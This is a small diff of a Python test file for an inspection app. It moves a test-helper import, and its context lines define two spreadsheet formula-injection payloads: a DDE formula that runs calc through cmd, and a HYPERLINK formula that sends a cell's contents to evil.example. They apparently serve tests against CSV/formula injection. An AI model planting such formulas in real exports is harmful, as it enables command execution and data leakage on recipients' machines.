@@ -19,8 +19,8 @@ from inspector_app.core.storage.models import Enterprise
 from inspector_app.core.supervision import assignments, draw, statistics
 from inspector_app.core.supervision.draw_rules import load_rules
 from inspector_app.documents import statistics_report as statistics_export
+from tests.core.roster_io_helpers import row, second_enterprise
 from tests.core.test_draw import ON, SEED, make
-from tests.core.test_roster_io import row, second_enterprise
 
 CALC = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://evil.example/?q="&B2,"查看")'
